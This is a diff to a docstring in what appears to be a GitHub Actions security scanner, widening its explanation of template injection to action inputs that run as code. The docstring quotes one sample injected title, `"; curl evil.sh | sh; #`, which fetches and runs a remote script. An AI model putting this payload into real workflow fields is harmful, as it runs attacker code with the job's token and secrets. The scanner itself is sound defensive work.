@@ -158,8 +158,9 @@ def _shell_nodes(step: Step) -> Iterator[tuple[YNode, str]]:
 def template_injection(wf: Workflow) -> Iterator[Finding]:
     """Attacker-controllable context expanded inline in a script.
 
-    `${{ }}` is substituted into the script text before the shell (or github-script's
-    JavaScript) parses it. An issue title, PR title or body, branch name, comment or commit
+    `${{ }}` is substituted into the script text before the shell parses it, and likewise into
+    action inputs that are run as code (`actions/github-script`'s `script`, `mikefarah/yq`'s
+    `cmd`, `azure/cli`'s `inlineScript`, `appleboy/ssh-action`'s `script`...). An issue title, PR title or body, branch name, comment or commit
     message is chosen by whoever opens it, so a title such as `"; curl evil.sh | sh; #` becomes
     code running with the job's token and secrets. Passing the value through `env:` and quoting
     the variable (`"$TITLE"`) keeps it data, and is not flagged.
